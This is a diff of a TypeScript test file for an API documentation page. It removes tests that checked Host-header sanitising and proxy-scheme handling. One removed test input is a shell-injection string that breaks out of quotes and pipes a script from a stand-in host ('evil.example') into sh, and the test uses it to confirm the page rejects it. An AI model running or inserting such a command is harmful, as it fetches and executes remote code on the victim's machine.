@@ -1,11 +1,9 @@
 import { readFileSync } from 'node:fs';
 import { eventSchemas, problems, schemaExample } from '@ringfence/contract';
-import { parseCidr } from '@ringfence/delivery';
 import { describe, expect, it } from 'vitest';
 import { errorsPage } from '../../../src/platform/api-reference/errors-page.ts';
 import { deviceKeysPlugin } from '../../../src/ingest/device-key-routes.ts';
 import { openApiText } from '../../../src/ingest/openapi.ts';
-import { ClientAddresses } from '../../../src/platform/http/client-address.ts';
 import { eventRoutes } from '../../../src/ingest/routes.ts';
 import { developmentKey, doorKit } from '../support/door-kit.ts';
 
@@ -127,30 +125,5 @@ describe('the reference', () => {
     ]) {
       expect(page).toContain(`<code>${name}</code>`);
     }
-  });
-
-  it.each([
-    ['fraud.bank.example:8443', 'http://fraud.bank.example:8443'],
-    ['[::1]:9080', 'http://[::1]:9080'],
-    ['localhost', 'http://localhost'],
-    ["x';curl evil.example|sh;'", 'http://localhost'],
-    ['<b>bank</b>', 'http://localhost'],
-    ['bank.example:80801234', 'http://localhost'],
-    ['user@bank.example', 'http://localhost'],
-  ])('shows its examples with the address of the request: Host: %s', async (host, address) => {
-    const kit = await doorKit();
-    const page = (await kit.app.inject({ url: '/docs', headers: { host } })).body;
-    const shown = [...page.matchAll(/'([^'\n]*)\/api-dev\/v5\/analytics\/app\/\w+'/g)].map((match) => match[1]);
-    expect(shown).toEqual([address, address, address]);
-    expect(page).not.toContain('evil.example');
-  });
-
-  it('uses https if a proxy of the operator reports it, and ignores other senders', async () => {
-    const headers = { host: 'bank.example', 'x-forwarded-proto': 'https' };
-    const behind = await doorKit({ deps: { senders: new ClientAddresses([parseCidr('10.0.0.0/8')!]) } });
-    const pageFor = async (remoteAddress: string): Promise<string> =>
-      (await behind.app.inject({ url: '/docs', headers, remoteAddress })).body;
-    expect(await pageFor('10.1.2.3')).toContain("'https://bank.example/api-dev/");
-    expect(await pageFor('192.0.2.1')).toContain("'http://bank.example/api-dev/");
   });
 });
